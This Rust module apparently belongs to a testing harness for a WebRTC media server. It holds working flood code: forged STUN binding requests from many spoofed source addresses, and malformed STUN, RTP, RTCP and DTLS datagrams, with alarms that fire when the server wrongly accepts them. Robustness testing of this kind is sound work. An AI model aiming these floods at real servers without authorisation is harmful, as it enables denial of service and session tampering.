//! Attacks on the media ports: forged STUN binding requests and garbage datagrams.

use std::net::{IpAddr, Ipv6Addr, SocketAddr};
use std::time::{Duration, Instant};

use tokio::net::UdpSocket;
use tokio::time::{interval, MissedTickBehavior};

use super::net::udp_source;
use super::stun::{binding_request, classify_reply};
use super::tally::Tally;
use super::{Attack, Ctx, Rng, Victim};

/// Sending happens in ticks of this length.
const TICK: Duration = Duration::from_millis(10);
/// Replies are read every this many ticks.
const READ_EVERY: u32 = 10;
/// What the bots saw is read again this often.
const REFRESH: Duration = Duration::from_millis(500);
/// Datagrams read per socket per turn.
const READ_BATCH: usize = 16;

/// Binds `n` sockets on the attack's forged source addresses (one address each while there are
/// enough, then several ports per address).
async fn bind_sockets(ctx: &Ctx, attack: Attack, n: usize, tally: &Tally) -> Vec<UdpSocket> {
    let mut out = Vec::with_capacity(n);
    for i in 0..n {
        let ip = udp_source(ctx.server, attack.slot(), i, n.min(250))
            .unwrap_or(IpAddr::V6(Ipv6Addr::LOCALHOST));
        match UdpSocket::bind(SocketAddr::new(ip, 0)).await {
            Ok(s) => out.push(s),
            Err(e) => tally.refused(&format!("udp bind {:?}", e.kind())),
        }
    }
    out
}

/// Waits (at most until the end) until `ready` finds something in what the bots saw.
async fn wait_for<T>(ctx: &Ctx, mut ready: impl FnMut() -> Option<T>) -> Option<T> {
    // Each turn sleeps; the end of the run bounds the loop.
    while Instant::now() < ctx.end {
        if let Some(t) = ready() {
            return Some(t);
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    None
}

fn victims_with_media(ctx: &Ctx) -> Option<Vec<Victim>> {
    let v: Vec<Victim> = ctx
        .intel
        .victims()
        .into_iter()
        .filter(|v| !v.media.is_empty())
        .collect();
    (!v.is_empty()).then_some(v)
}

/// Reads what came back on the sockets and counts it; a success answer to a forged request is
/// an alarm.
fn read_replies(socks: &[UdpSocket], tally: &Tally, forged_stun: bool) {
    let mut buf = [0u8; 1500];
    for s in socks {
        for _ in 0..READ_BATCH {
            let Ok((n, _)) = s.try_recv_from(&mut buf) else {
                break;
            };
            let kind = classify_reply(&buf[..n]);
            if forged_stun && kind == "stun binding success" {
                tally.alarm(
                    "the server answered a forged binding request (bogus MESSAGE-INTEGRITY) \
                     with success"
                        .into(),
                );
            }
            tally.answer(&kind);
        }
    }
}

/// Sends `rate` datagrams a second until the end, each made by `make(n)` and sent from
/// `socks[n % len]` to the address it returns; replies are counted. Bounded by the end and by
/// the count the rate allows.
async fn send_at_rate(
    ctx: &Ctx,
    tally: &Tally,
    rate: f64,
    socks: &[UdpSocket],
    forged_stun: bool,
    mut make: impl FnMut(usize, bool) -> Option<(SocketAddr, Vec<u8>, &'static str)>,
) {
    let left = ctx.end.saturating_duration_since(Instant::now());
    let max = (rate * left.as_secs_f64()) as usize + 100;
    let per_tick = rate * TICK.as_secs_f64();
    let mut credit = 0.0;
    let mut n = 0usize;
    let mut ticks = 0u32;
    let mut next_refresh = Instant::now() + REFRESH;
    let mut timer = interval(TICK);
    timer.set_missed_tick_behavior(MissedTickBehavior::Skip);
    while Instant::now() < ctx.end && n < max {
        timer.tick().await;
        let refresh = Instant::now() >= next_refresh;
        if refresh {
            next_refresh += REFRESH;
        }
        // A stalled tick does not turn into a burst.
        credit = (credit + per_tick).min(per_tick * 4.0 + 1.0);
        let mut first = true;
        while credit >= 1.0 && n < max {
            credit -= 1.0;
            let sock = &socks[n % socks.len()];
            if let Some((to, data, kind)) = make(n, refresh && first) {
                match sock.try_send_to(&data, to) {
                    Ok(_) => tally.sent(kind, 1),
                    Err(_) => tally.sent("send errors", 1),
                }
            }
            first = false;
            n += 1;
        }
        ticks += 1;
        if ticks.is_multiple_of(READ_EVERY) {
            read_replies(socks, tally, forged_stun);
        }
    }
    read_replies(socks, tally, forged_stun);
}

/// `stun-flood`: binding requests naming the victims' server-side ufrags, with a bogus
/// MESSAGE-INTEGRITY, from many forged source addresses and ports.
pub async fn stun_flood(ctx: &Ctx, tally: &Tally) {
    let Some(mut victims) = wait_for(ctx, || victims_with_media(ctx)).await else {
        tally.note("no victim was seen before the end".into());
        return;
    };
    let socks = bind_sockets(ctx, Attack::StunFlood, ctx.cfg.stun_sockets, tally).await;
    if socks.is_empty() {
        return;
    }
    let mut rng = Rng::new(1);
    let mut most = victims.len();
    send_at_rate(ctx, tally, ctx.cfg.stun_rate, &socks, true, |n, refresh| {
        if refresh {
            if let Some(v) = victims_with_media(ctx) {
                victims = v;
                most = most.max(victims.len());
            }
        }
        // Victims in turn; consecutive requests for one victim come from different sources.
        let v = &victims[n % victims.len()];
        let to = v.media[(n / victims.len()) % v.media.len()];
        let remote = v.client_ufrag.clone().unwrap_or_else(|| rng.word(8));
        let mut txid = [0u8; 12];
        txid.copy_from_slice(&rng.bytes(12));
        let mut integrity = [0u8; 20];
        integrity.copy_from_slice(&rng.bytes(20));
        let username = format!("{}:{remote}", v.server_ufrag);
        let prio = 0x7F00_0000 | (rng.next() as u32 & 0xFF_FFFF);
        let msg = binding_request(txid, &username, prio, rng.next(), integrity);
        Some((to, msg, "forged binding requests"))
    })
    .await;
    tally.note(format!(
        "named {most} victim ufrags from {} forged sources",
        socks.len()
    ));
}

/// Garbage of one kind, for `garbage-udp`.
fn garbage(kind: usize, rng: &mut Rng) -> (Vec<u8>, &'static str) {
    match kind % 7 {
        0 => {
            let n = 1 + rng.below(1200);
            (rng.bytes(n), "random bytes")
        }
        1 => {
            // A STUN header that promises more than follows.
            let mut m = vec![0x00, 0x01, 0x01, 0x00, 0x21, 0x12, 0xA4, 0x42];
            let n = 12 + rng.below(20);
            m.extend(rng.bytes(n));
            (m, "truncated stun")
        }
        2 => {
            // STUN with attributes whose lengths run past the end.
            let mut m = vec![0x00, 0x01, 0x00, 0x10, 0x21, 0x12, 0xA4, 0x42];
            m.extend(rng.bytes(12));
            m.extend([0x00, 0x06, 0xFF, 0xFF, b'a', b'b', b'c', b'd']);
            m.extend([0x00, 0x08, 0x00, 0x14]);
            (m, "stun with bad attribute lengths")
        }
        3 => {
            // RTP version 2 with a random SSRC and payload type, random payload.
            let mut m = vec![0x80 | (rng.next() as u8 & 0x3F), 96 + rng.below(32) as u8];
            let n = 10 + rng.below(1000);
            m.extend(rng.bytes(n));
            (m, "fake rtp")
        }
        4 => {
            // RTCP sender/receiver report header, random body.
            let mut m = vec![0x81, 200 + rng.below(6) as u8, 0x00, 0x07];
            m.extend(rng.bytes(28));
            (m, "fake rtcp")
        }
        5 => {
            // A DTLS 1.2 handshake record (ClientHello) with a random body.
            let len = 40 + rng.below(200);
            let mut m = vec![0x16, 0xFE, 0xFD, 0, 0, 0, 0, 0, 0, 0, 0];
            m.extend((len as u16).to_be_bytes());
            m.push(0x01);
            m.extend(rng.bytes(len - 1));
            (m, "fake dtls client hello")
        }
        _ => {
            let n = rng.below(3);
            (rng.bytes(n), "tiny datagram")
        }
    }
}

/// `garbage-udp`: random bytes, truncated STUN, fake RTP, RTCP and DTLS to the media ports.
pub async fn garbage_udp(ctx: &Ctx, tally: &Tally) {
    let Some(mut media) = wait_for(ctx, || {
        let m = ctx.intel.media();
        (!m.is_empty()).then_some(m)
    })
    .await
    else {
        tally.note("no media port was seen before the end".into());
        return;
    };
    let socks = bind_sockets(ctx, Attack::GarbageUdp, 16, tally).await;
    if socks.is_empty() {
        return;
    }
    let mut rng = Rng::new(6);
    send_at_rate(
        ctx,
        tally,
        ctx.cfg.garbage_rate,
        &socks,
        false,
        |n, refresh| {
            if refresh {
                let m = ctx.intel.media();
                if !m.is_empty() {
                    media = m;
                }
            }
            let (data, kind) = garbage(n, &mut rng);
            Some((media[n % media.len()], data, kind))
        },
    )
    .await;
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_garbage_kind_is_made() {
        let mut rng = Rng::new(3);
        let mut kinds = std::collections::BTreeSet::new();
        for k in 0..70 {
            let (data, kind) = garbage(k, &mut rng);
            assert!(data.len() <= 1300, "{kind}");
            kinds.insert(kind);
        }
        assert_eq!(kinds.len(), 7);
    }
}
